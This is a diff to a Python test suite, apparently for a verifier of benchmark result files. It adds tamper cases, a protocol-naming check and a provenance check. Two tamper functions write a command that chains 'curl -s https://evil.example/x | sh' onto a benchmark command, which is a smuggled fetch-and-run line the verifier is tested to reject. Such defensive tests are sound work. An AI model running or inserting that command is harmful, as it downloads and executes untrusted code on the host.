@@ -127,7 +127,17 @@ def the_support(data: dict) -> None:
     rehash(data)
 
 
+def a_command_for_the_shell(data: dict) -> None:
+    data["command"] = "wbench eval --agent bc; curl -s https://evil.example/x | sh"
+
+
+def another_command(data: dict) -> None:
+    data["command"] = "curl -s https://evil.example/x"
+
+
 FOUND = {
+    a_command_for_the_shell: "command is 'wbench eval --agent bc; curl",
+    another_command: "command is 'curl",
     a_score: "cells[0].score is",
     a_return: "cells[0].return_mean is",
     a_return_and_its_mean: "cells[0].score is",
@@ -157,6 +167,15 @@ def test_recomputing_catches(tamper, tmp_path):
         verdict.problems
     )
     assert verify(path, "rerun").problems == verdict.problems  # what does not add up is not played again
+
+
+def test_a_size_of_the_protocol_goes_by_its_own_name(tmp_path):
+    data = document(protocol("lite"), samples.run(played=protocol("lite")))
+    assert verify(save(tmp_path / "lite.json", data)).holds
+    verdict = verify(save(tmp_path / "r.json", data | {"protocol": "custom"}))
+    assert verdict.problems[0] == "protocol is 'custom', but 'lite' follows from its hash"
+    names = [*reversed(protocol("lite").variants)]
+    assert protocol("lite", variants=names) == protocol("lite")
 
 
 def test_a_hash_or_contract_that_do_not_belong_together_is_malformed(tmp_path):
@@ -228,7 +247,15 @@ def test_rerunning_catches_another_checkpoint(honest, tmp_path):
     def parameters(data):
         data["parameters"] += 1
 
-    for tamper, said in ((digest, "checkpoint is '000"), (parameters, "parameters is")):
+    def nobody_knows_from_where(data):
+        data["origin"] = {"kind": "unknown", "name": "", "revision": ""}
+        data["privileged_training"] = True
+
+    for tamper, said in (
+        (digest, "checkpoint is '000"),
+        (parameters, "parameters is"),
+        (nobody_knows_from_where, "privileged_training is True"),
+    ):
         path = save(tmp_path / "r.json", changed(honest, tamper))
         verdict = verify(path, "rerun")
         assert verdict.tier == "recomputed" and not verdict.replayed and verdict.problems[0].startswith(said)
